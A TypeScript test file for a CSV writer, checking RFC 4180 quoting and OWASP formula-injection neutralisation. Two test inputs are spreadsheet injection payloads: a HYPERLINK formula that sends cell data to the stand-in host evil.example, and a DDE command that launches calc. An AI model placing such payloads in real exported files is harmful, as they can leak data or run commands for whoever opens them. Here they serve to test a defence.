import { describe, expect, it } from "vitest";
import { csvField, csvRecord } from "./csv.ts";
import { parseCsv } from "./test-support/parse-csv.ts";

describe("CSV fields (RFC 4180)", () => {
  it("leaves a plain field as it is", () => {
    expect(csvField("Ken Myer")).toBe("Ken Myer");
    expect(csvField("")).toBe("");
    expect(csvField("sip:kenmyer@litwareinc.com")).toBe("sip:kenmyer@litwareinc.com");
    expect(csvField("tel:+14255551102;ext=1102")).toBe("tel:+14255551102;ext=1102");
  });

  it("quotes a field holding a quote, a comma, a CR or an LF, and doubles its quotes", () => {
    expect(csvField("Hagens, Erin")).toBe('"Hagens, Erin"');
    expect(csvField('Ken "The Auditor" Myer')).toBe('"Ken ""The Auditor"" Myer"');
    expect(csvField('"')).toBe('""""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField("a\rb")).toBe('"a\rb"');
  });

  it("ends each record with CRLF", () => {
    expect(csvRecord(["a", "b, c", ""])).toBe('a,"b, c",\r\n');
    expect(csvRecord([""])).toBe("\r\n");
  });
});

describe("formula neutralisation (OWASP CSV injection)", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+14255551102", "'+14255551102"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+2", "'\t=1+2"],
  ])("puts ' before %j", (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it("neutralises first and quotes after, so the quote cannot be broken out of", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    );
    expect(csvField("\r=cmd|' /C calc'!A0")).toBe("\"'\r=cmd|' /C calc'!A0\"");
  });

  it("leaves those characters alone anywhere but first", () => {
    expect(csvField("Ken=Myer")).toBe("Ken=Myer");
    expect(csvField("Research and Development - Lab")).toBe("Research and Development - Lab");
    expect(csvField("kenmyer@litwareinc.com")).toBe("kenmyer@litwareinc.com");
  });
});

describe("what a reader gets back", () => {
  it("reads every record as it was written, formula cells with their leading '", () => {
    const records = [
      ["Display name", "Title"],
      ["Hagens, Erin", 'Top "10%"'],
      ["two\r\nlines", ""],
      ["=1+2", "ordinary"],
    ];
    const text = records.map(csvRecord).join("");
    expect(parseCsv(text)).toEqual([
      ["Display name", "Title"],
      ["Hagens, Erin", 'Top "10%"'],
      ["two\r\nlines", ""],
      ["'=1+2", "ordinary"],
    ]);
  });
});
